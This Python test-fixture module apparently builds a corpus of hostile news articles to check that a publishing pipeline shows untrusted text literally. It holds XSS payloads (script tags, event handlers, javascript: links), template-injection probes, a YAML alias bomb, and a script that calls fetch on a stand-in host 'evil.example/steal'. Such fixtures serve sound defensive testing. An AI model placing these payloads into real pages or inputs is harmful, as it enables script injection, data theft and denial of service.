"""Articles whose text tries to act as code: HTML, Markdown, templates, front matter.

Kept apart from hostile_corpus.py (broken bytes): these files are valid UTF-8
and must be read, shown as literal text, and never executed.
"""

from __future__ import annotations

from pathlib import Path

SCRIPT_TITLE = "<script>alert('title')</script> Treaty signed {{ 7*7 }} in the capital"

INJECTION = f"""{SCRIPT_TITLE}

The treaty was signed by both ministers on Monday. <img src=x onerror=alert(1)> They praised the accord.

The delegation visited the port. <iframe src="javascript:alert(2)"></iframe> Officials said the visit went well.

A guide gave the minister a gift [click me](javascript:alert(3)) and <a href="javascript:alert(4)">a link</a> and <base href="http://evil.example/">.

# Not a heading [^1] and a footnote marker. !!! note "An admonition"

| a table | injection |

```python
print("a code fence")
```

{{% raw %}} {{{{ config.site_name }}}} {{% endraw %}} and {{{{ 7*7 }}}} stay as they are.

<div markdown="1">**not bold**</div> and <svg onload=alert(5)></svg> and <style>body{{display:none}}</style>.
"""

FRONT_MATTER = """---
title: "Injected title"
a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]
---
Front matter lookalike article

The gift was a silver bowl, officials said. Nothing in this file is configuration.
"""

# A saved page that tries everything a page can do: every part of it is data, shown as text or dropped.
INJECTION_PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8">
<title><script>alert('page title')</script> Ministers sign the harbour accord</title>
<meta http-equiv="refresh" content="0;url=javascript:alert(7)">
<base href="http://evil.example/">
<link rel="canonical" href="javascript:alert(8)">
<meta property="og:site_name" content="<img src=x onerror=alert(9)> Harbour Wire">
<script type="application/ld+json">{"@type": "NewsArticle", "headline": "<script>alert(10)</script> Ministers sign the
 harbour accord", "datePublished": "2025-03-03", "isAccessibleForFree": true}</script>
<script>alert(11); fetch("http://evil.example/steal")</script>
<style>body { display: none }</style>
<link rel="stylesheet" href="http://evil.example/evil.css">
</head>
<body onload="alert(12)">
<article>
<h1 onmouseover="alert(13)">Ministers sign the harbour accord</h1>
<p onclick="alert(14)">The two ministers signed the harbour accord on Monday in the port city, officials said.</p>
<iframe src="javascript:alert(15)"></iframe>
<p>Officials said <a href="javascript:alert(16)">the visit</a> went well. <img src="http://evil.example/pixel.gif"
 onerror="alert(17)"> The delegation toured the new quay.</p>
<svg onload="alert(18)"><circle r="5"/></svg><object data="javascript:alert(19)"></object>
<p>&lt;script&gt;alert(20)&lt;/script&gt; is shown as text, and {{ 7*7 }} and {% raw %} stay as written.</p>
<p>The accord covers pilotage, tug services and the sharing of berth schedules between the two ports.</p>
</article>
<form action="http://evil.example/"><input name="q"></form>
</body></html>
"""

INJECTION_MARKDOWN = """---
title: "<script>alert('md title')</script> Treaty signed {{ 7*7 }}"
url: "javascript:alert(21)"
outlet: "<b onmouseover=alert(22)>Wire</b>"
---

The treaty was **signed** by both ministers on Monday. <img src=x onerror=alert(23)> They praised the accord.

<script>alert(24)</script>

The delegation visited the port. <iframe src="javascript:alert(25)"></iframe> [Officials](javascript:alert(26)) said
the visit went well, and ![a picture](http://evil.example/pixel.png) showed the quay.

{% raw %}{{ config.site_name }}{% endraw %} and <a href="javascript:alert(27)">a link</a> stay as text.
"""

FILES = {
    "m_injection.txt": INJECTION,
    "m_front_matter.txt": FRONT_MATTER,
    "m_<b>bold<b>{{7*7}}&amp;\"quoted\".txt": "A file name with markup\n\nThe visit took place as planned.\n",
    "m_..txt": "Dots in the name\n\nThe treaty was signed on time.\n",
    "m_breakout.txt": '</title><script>alert("t2")</script>" onmouseover="alert(6)" x="\n\n'
                      "The visit ended with a gift.\n",
    "m_page.html": INJECTION_PAGE,
    "m_markdown.md": INJECTION_MARKDOWN,
}
# What reading them warns about (anything else: read with no warning).
WARNINGS = {"m_markdown.md": "ok: front matter url is not a plain http(s) address"}


def write_injection_corpus(directory: Path) -> dict[str, str]:
    directory.mkdir(parents=True, exist_ok=True)
    for name, text in FILES.items():
        (directory / name).write_text(text, encoding="utf-8")
    return {name: WARNINGS.get(name, "ok") for name in FILES}


def make_hostile_project(tmp: Path) -> Path:
    """A project whose seeds hold every broken and hostile file, with good articles mixed in."""
    import shutil

    from hostile_corpus import write_hostile_corpus
    from sitecheck import make_project
    from support import PACIFIC

    project = make_project(tmp, PACIFIC / "seeds", PACIFIC / "briefing.yml")
    write_hostile_corpus(project / "seeds")  # written in place: pipes and links do not copy
    write_injection_corpus(project / "seeds")
    assert all((project / "seeds" / name).is_file() for name in GOOD_FIXTURES)
    shutil.copy(PACIFIC / "seeds" / "004_storm.txt", project / "seeds" / "004_storm.txt")
    return project


GOOD_FIXTURES = ["001_wellington.txt", "002_wire.txt", "003_herald.txt"]
